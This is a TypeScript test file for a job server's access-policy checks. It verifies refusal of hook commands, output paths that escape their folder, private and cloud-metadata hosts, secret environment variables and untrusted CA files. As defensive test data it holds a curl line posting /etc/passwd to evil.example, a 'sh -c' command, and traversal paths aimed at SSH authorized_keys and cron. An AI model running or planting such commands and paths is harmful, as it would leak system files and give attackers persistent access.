import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import type { ConfigAccess } from '../../../src/core/configs/config-access.ts';
import { parseHostAndPort } from '../../../src/core/configs/host-and-port.ts';
import { reviewConfig, reviewParams } from '../../../src/rpc/access/enforce-policy.ts';
import { DEFAULT_POLICY, type Policy } from '../../../src/rpc/access/policy.ts';
import { lacks } from '../../platform.ts';
import { tempFolder } from '../../temp-folder.ts';

const JOB = { config_name: 'books', schedule: { type: 'daily', time: '09:00', timezone: 'UTC' } };
const FACTS: ConfigAccess = {
  privateHosts: [],
  outputPath: null,
  caFile: null,
  addressFiles: [],
  addressJob: null,
  variables: [],
  references: [],
  addresses: [],
  needsBrowser: false,
  countedBy: null,
  concurrency: null,
  secrets: [],
  headers: [],

  request: null,
};

function folders(extra?: string) {
  const root = tempFolder();
  const home = join(root, 'output');
  const configs = join(root, 'configs');
  for (const folder of [home, configs]) mkdirSync(folder);
  if (extra !== undefined) mkdirSync(join(root, extra));
  return { root, home, configs, extra: extra === undefined ? undefined : join(root, extra) };
}

function review(fields: Record<string, unknown>, policy: Partial<Policy> = {}, places = folders()) {
  return reviewParams({ ...JOB, ...fields }, { ...DEFAULT_POLICY, ...policy }, places);
}

it.each(['on_success', 'on_failure', 'on_recovery', 'on_change'])('refuses %s, even to clear it', (field) => {
  for (const value of ['curl http://evil.example/ -d @/etc/passwd', ['sh', '-c', 'id'], null]) {
    expect(() => review({ [field]: value })).toThrow(`${field}: this server sets no commands`);
    expect(() =>
      reviewParams({ job_id: 'mine', changes: { [field]: value } }, DEFAULT_POLICY, folders()),
    ).toThrow(`changes.${field}: this server sets no commands`);
  }
});

it('allows commands where the person who started the server allowed them', () => {
  expect(review({ on_success: 'notify' }, { allowCommands: true })).toMatchObject({ on_success: 'notify' });
});

it.each([
  '../../.ssh/authorized_keys',
  '/etc/cron.d/job',
  '~/../../../etc/passwd/../../..//x.csv/../../..',
  '/x.csv',
])('refuses the output path %s', (output_path) => {
  expect(() => review({ output_path })).toThrow(
    expect.objectContaining({
      code: 'not_allowed',
      message: expect.stringContaining('lies outside of'),
      // No template: `export` refuses them.
      hint: expect.stringMatching(/^Give a relative path, such as "books\.json"/),
    }),
  );
  expect(() => reviewParams({ job_id: 'mine', changes: { output_path } }, DEFAULT_POLICY, folders())).toThrow(
    'lies outside of',
  );
});

it('lets output land in the output folder, and in --output-dir, where relative paths then start', () => {
  const places = folders('shared');
  const relative = { output_path: 'a/{config_name}_{date}.csv' };
  expect(review(relative)).toMatchObject(relative);
  expect(review(relative, {}, places)).toMatchObject({
    output_path: join(places.root, 'shared', relative.output_path),
  });
  const absolute = { output_path: join(places.home, 'x.csv') };
  expect(review(absolute, {}, places)).toMatchObject(absolute);
  expect(() => review({ output_path: join(places.root, 'shared-not', 'x.csv') }, {}, places)).toThrow(
    'lies outside of',
  );
});

it.skipIf(lacks('links'))('refuses an output path that a link leads out of the folder', () => {
  const places = folders();
  symlinkSync(tempFolder(), join(places.home, 'away'));
  expect(() => review({ output_path: 'away/x.csv' }, {}, places)).toThrow('lies outside of');
});

it.skipIf(lacks('links'))(
  'refuses an output path whose placeholders may be filled in with the name of such a link',
  () => {
    const places = folders('shared');
    const { home, extra = '' } = places;
    for (const folder of [home, extra]) {
      mkdirSync(join(folder, 'shop'));
      symlinkSync(tempFolder(), join(folder, 'away'));
      symlinkSync(tempFolder(), join(folder, 'shop', 'data'));
      symlinkSync(join(folder, 'shop'), join(folder, '2026-11-26'));
      for (const path of ['{config_name}/x.csv', '{config_name}/data/x.csv', 'a{run_id}y/x.csv', '{job_id}'])
        expect(() => review({ output_path: join(folder, path) }, {}, places)).toThrow('lies outside of');
      for (const path of [
        '{date}/x.csv',
        '{config_name}.csv',
        'b{config_name}/x.csv',
        'shop/{config_name}.csv',
      ])
        expect(review({ output_path: join(folder, path) }, {}, places)).toBeDefined();
    }
  },
);

it.each([
  ['* * * * * *', '1 s apart'],
  ['0,59 0 9 * * *', '59 s apart'],
  ['*/30 * * * *', undefined],
  ['* * * * *', undefined],
  ['30 * * * * *', undefined],
  ['no pattern', undefined],
])('holds the pattern %s against the shortest interval', (cron_expression, refused) => {
  const fields = { schedule: { type: 'custom', cron_expression, timezone: 'UTC' } };
  if (refused === undefined) expect(review(fields)).toMatchObject(fields);
  else expect(() => review(fields)).toThrow(refused);
});

it('refuses retries that come faster than a schedule may', () => {
  expect(() => review({ max_retries: 100, retry_delay: 0 })).toThrow('retry_delay: 0 s');
  const changes = { retry_delay: 59.5 };
  expect(() => reviewParams({ job_id: 'mine', changes }, DEFAULT_POLICY, folders())).toThrow(
    'changes.retry_delay',
  );
  expect(review({ retry_delay: 60 })).toMatchObject({ retry_delay: 60 });
});

const allowing = (...entries: string[]): Policy => ({
  ...DEFAULT_POLICY,
  allowPrivateHosts: entries.map((entry) => parseHostAndPort(entry) ?? expect.fail(entry)),
});

it('refuses a configuration that names a private host in any spelling, unless it is permitted', () => {
  const facts = { ...FACTS, privateHosts: ['127.0.0.1:8080', '[::1]:80', 'shop.lan'] };
  const places = folders();
  expect(() => reviewConfig(facts, DEFAULT_POLICY, places)).toThrow(
    expect.objectContaining({
      message: 'yaml: 127.0.0.1:8080, [::1]:80, shop.lan lie in a private network',
      hint: expect.stringContaining('--allow-private-hosts 127.0.0.1:8080 [::1]:80 shop.lan.'),
    }),
  );
  reviewConfig(facts, allowing('2130706433:8080', '[::1]:80', 'SHOP.lan.'), places);
  reviewConfig(facts, allowing('127.0.0.1', '::1', 'shop.lan'), places);
  expect(() => reviewConfig(facts, allowing('127.0.0.1'), places)).toThrow('[::1]:80, shop.lan');
});

it('offers no permission for addresses that are never fetched', () => {
  for (const place of [
    '169.254.169.254',
    '169.254.169.254:80',
    '[fe80::1]:80',
    'metadata.google.internal:80',
  ])
    expect(() => reviewConfig({ ...FACTS, privateHosts: [place] }, DEFAULT_POLICY, folders())).toThrow(
      expect.objectContaining({ hint: expect.stringMatching(/no setting allows them\.$/) }),
    );
});

it('takes a permission with a port for that port alone', () => {
  const places = folders();
  const reach = (place: string) => () =>
    reviewConfig({ ...FACTS, privateHosts: [place] }, allowing('127.0.0.1:8080', '[::1]:8080'), places);
  for (const place of ['127.0.0.1:8080', '[::1]:8080']) expect(reach(place)).not.toThrow();
  for (const place of ['127.0.0.1:8081', '127.0.0.1', '[::1]:80', '::1', 'localhost:8080', 'fe80::1%eth0'])
    expect(reach(place)).toThrow(`${place} lies in a private network`);
});

it('names the allowed ports when another one or none is given', () => {
  const policy = allowing('127.0.0.1:8080', '[::1]:80', 'shop.lan:81');
  for (const place of ['127.0.0.1', '127.0.0.1:9090'])
    expect(() => reviewConfig({ ...FACTS, privateHosts: [place] }, policy, folders())).toThrow(
      expect.objectContaining({
        hint:
          'This server allows 127.0.0.1:8080: keep to that, also in allow_private_hosts. ' +
          `Only the person who starts this server can allow it: --allow-private-hosts ${place}.`,
      }),
    );
});

it('says when a configuration keeps the variables that it has', () => {
  expect(() => reviewConfig({ ...FACTS, variables: ['KEY'] }, DEFAULT_POLICY, folders())).toThrow(
    expect.objectContaining({
      hint: expect.stringMatching(/^A stored configuration keeps .*config_name.* pagination\.param_name/),
    }),
  );
});

it('refuses a configuration that fills in environment variables, or writes elsewhere', () => {
  const places = folders();
  expect(() => reviewConfig({ ...FACTS, variables: ['AWS_SECRET'] }, DEFAULT_POLICY, places)).toThrow(
    '${AWS_SECRET}',
  );
  expect(() => reviewConfig({ ...FACTS, outputPath: '/etc/x.csv' }, DEFAULT_POLICY, places)).toThrow(
    'output.path',
  );
  expect(() => reviewConfig({ ...FACTS, outputPath: '../x.csv' }, DEFAULT_POLICY, places)).toThrow(
    'output.path',
  );
  reviewConfig({ ...FACTS, outputPath: 'x.csv' }, DEFAULT_POLICY, places);
});

it('refuses to trust a file that a client names', () => {
  expect(() => reviewConfig({ ...FACTS, caFile: '/tmp/mine.pem' }, DEFAULT_POLICY, folders())).toThrow(
    expect.objectContaining({
      code: 'not_allowed',
      field: 'yaml',
      message: expect.stringMatching(/^yaml: ca: /),
    }),
  );
});

it('takes addresses only from files beside the configurations', () => {
  const places = folders();
  symlinkSync('/etc/passwd', join(places.configs, 'linked.txt'));
  const reviewFile = (file: string) =>
    reviewConfig({ ...FACTS, addressFiles: [file] }, DEFAULT_POLICY, places);
  for (const file of [
    '/etc/hosts.txt',
    '../jobs/books.json',
    '../output/rows.csv',
    'linked.txt',
    join(places.root, 'x.csv'),
  ])
    expect(() => reviewFile(file), file).toThrow(
      expect.objectContaining({
        code: 'not_allowed',
        field: 'yaml',
        message: expect.stringMatching(/^yaml: urls_from: ".+" lies outside of /),
      }),
    );
  for (const file of ['ids.csv', 'lists/ids.csv', join(places.configs, 'ids.csv')]) reviewFile(file);
});

it('refuses a request that may change something, unless it is permitted', () => {
  const facts = { ...FACTS, request: { does: 'sends POST', text: '' } };
  const places = folders();
  expect(() => reviewConfig(facts, DEFAULT_POLICY, places)).toThrow(
    expect.objectContaining({
      code: 'not_allowed',
      message: expect.stringContaining('request: it sends POST'),
      hint: expect.stringContaining('--allow-requests'),
    }),
  );
  reviewConfig(facts, { ...DEFAULT_POLICY, allowRequests: true }, places);
});

it('refuses several requests at a time to the internet, unless it is permitted', () => {
  const facts = { ...FACTS, concurrency: 8 };
  const places = folders();
  expect(() => reviewConfig(facts, DEFAULT_POLICY, places)).toThrow(
    expect.objectContaining({
      code: 'not_allowed',
      message: expect.stringMatching(/^yaml: concurrency: /),
      hint: expect.stringContaining('--allow-requests'),
    }),
  );
  reviewConfig(facts, { ...DEFAULT_POLICY, allowRequests: true }, places);
});
